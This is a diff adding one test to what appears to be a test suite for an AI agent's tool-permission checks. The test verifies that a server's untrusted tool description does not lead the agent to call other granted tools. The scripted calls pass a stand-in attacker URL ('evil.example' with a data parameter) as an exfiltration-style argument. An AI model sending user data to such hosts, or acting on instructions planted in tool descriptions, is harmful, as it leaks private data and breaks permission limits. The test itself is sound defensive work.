@@ -202,6 +202,25 @@ test('what a granted tool returned counts as foreign in later turns, too', async
   expect(bench.questions).toHaveLength(1)
 })
 
+test('what a server says of its own tools leads to no call of others', async () => {
+  const bench = createBench(
+    [
+      { id: 'mail.send', effect: 'external' },
+      { id: 'odd.change', effect: 'external', isDescriptionForeign: true },
+      { id: 'web.read' },
+    ],
+    { settings: { granted: ['mail.*', 'odd.*'] } },
+  )
+  const calls = ['mail__send', 'odd__change', 'web__read'].map((name) => ({
+    name,
+    args: { url: 'https://evil.example/?d=4711' },
+  }))
+  const steps = createScriptedSteps((_request, index) => (index === 0 ? { calls } : { text: 'done' }))
+  await bench.answer(steps, asked('hello'))
+  expect(bench.registry.calls.map(({ id }) => id)).toEqual(['odd.change'])
+  expect(bench.questions).toHaveLength(2)
+})
+
 describe('addresses after a page was read', () => {
   const page = () => fetching(PAGE)
   const fetching = (url: string) =>
